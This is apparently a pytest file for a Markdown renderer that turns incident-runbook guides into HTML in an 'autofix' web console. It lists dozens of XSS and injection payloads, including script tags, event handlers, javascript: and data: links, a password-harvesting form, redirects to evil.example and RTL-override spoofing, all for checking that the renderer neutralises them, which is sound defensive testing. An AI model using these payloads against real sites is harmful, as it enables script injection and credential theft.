"""The guide of a runbook: read as Markdown, and nothing in it can act."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from autofix.web.console.guide import REL, TAGS, rendered

GUIDE = """\
# What it means

Memory is **nearly** *full*. See [the wiki](https://wiki.example.com/a?b=1&c=2 "all of it").

1. Look with `redis-cli info`
2. Ask [the team](mailto:db@example.com)

> later

    df -h

| a | b |
|---|---|
| 1 | 2 |
"""
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x](<https://a.example\" onclick=\"alert(1)>)",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">over everything</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<button popovertarget=keys>Approve</button>",
    "a\u202egnp.exe\u202c b",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "a\x00<b>",
]  # fmt: skip


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_guide_can_act(text: str) -> None:
    html = rendered(text)
    seen = Tags(html)
    assert {tag for tag, _ in seen.found} <= TAGS
    assert seen.comments == []
    for tag, given in seen.found:
        assert set(given) <= ({"href", "title", "rel"} if tag == "a" else {"start"})
        if "href" in given:
            assert re.match(r"(https?://|mailto:)", given["href"] or "")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", html)


def test_hostile_text_is_shown_and_not_swallowed() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered(HOSTILE[0])
    assert "\\u202e" in rendered("a\u202eb")


def test_a_guide_reads_as_it_was_meant() -> None:
    html = rendered(GUIDE)
    assert isinstance(html, Markup)
    assert "<h3>What it means</h3>" in html
    assert "<strong>nearly</strong> <em>full</em>" in html
    link = '<a href="https://wiki.example.com/a?b=1&amp;c=2" title="all of it"'
    assert f'{link} rel="{REL}">the wiki</a>' in html
    assert f'<a href="mailto:db@example.com" rel="{REL}">' in html
    assert "<li>Look with <code>redis-cli info</code></li>" in html
    assert "<pre><code>df -h\n</code></pre>" in html
    assert "<td>1</td>" in html


@pytest.mark.parametrize(
    "relative", ["[x](/incidents/1/approve)", "[x](//evil.example)", "[x](?a)"]
)
def test_a_link_without_a_scheme_leads_nowhere(relative: str) -> None:
    [(_, _), (tag, given)] = Tags(rendered(relative)).found
    assert (tag, "href" in given) == ("a", False)


def test_a_very_long_guide_is_cut() -> None:
    assert len(rendered("x" * 500_000)) < 110_000


def test_no_guide_is_nothing() -> None:
    assert rendered("") == ""
